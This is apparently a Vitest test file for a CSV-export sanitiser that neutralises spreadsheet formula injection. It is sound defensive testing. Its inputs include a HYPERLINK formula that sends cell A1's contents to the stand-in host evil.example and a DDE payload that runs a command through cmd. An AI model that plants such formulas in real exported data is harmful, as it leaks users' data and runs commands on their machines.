import { describe, expect, it } from "vitest";
import { csvCell, csvField, csvText } from "./csv";

describe("csvCell", () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?"&A1,"click")', `'=HYPERLINK("https://evil.example/?"&A1,"click")`],
    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "'\r=1+1"],
    ["-inf host", "'-inf host"],
  ])("neutralises %j", (text, want) => {
    expect(csvCell(text)).toBe(want);
  });

  it.each(["-1.5", "+3", "-2e-7", "1.5E+10", "-.5", "-inf", "nan", "web-01", "a=b", "", "2026-11-28T10:00:00.000Z"])(
    "leaves %j as it is",
    (text) => {
      expect(csvCell(text)).toBe(text);
    },
  );
});

describe("csvField and csvText", () => {
  it("neutralises before quoting, so the quote stays inside the field", () => {
    expect(csvField('=1,"x"')).toBe(`"'=1,""x"""`);
    expect(csvField("\r=cmd")).toBe(`"'\r=cmd"`);
    expect(csvText([["host", "value"], ["=evil()", "-1.5"]])).toBe("host,value\n'=evil(),-1.5\n");
  });
});
